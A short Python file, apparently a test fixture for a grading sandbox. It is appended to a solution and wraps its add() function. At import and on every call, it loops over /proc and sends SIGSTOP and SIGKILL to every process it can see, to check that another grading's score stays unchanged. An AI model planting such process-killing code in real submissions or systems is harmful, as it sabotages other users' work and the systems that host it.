# Appended to the Part 1 solution: for as long as it may, kill or stop every process
# it can see, at import and in every call. Run beside another grading, it must not
# change that grading's score.
import os
import signal
import time


def _attack(seconds):
    end = time.monotonic() + seconds
    me = os.getpid()
    while time.monotonic() < end:
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != me:
                for number in (signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(int(entry), number)
                    except OSError:
                        pass


_attack(3.0)
_solved_add = add  # noqa: F821


def add(u, v):
    _attack(0.2)
    return _solved_add(u, v)
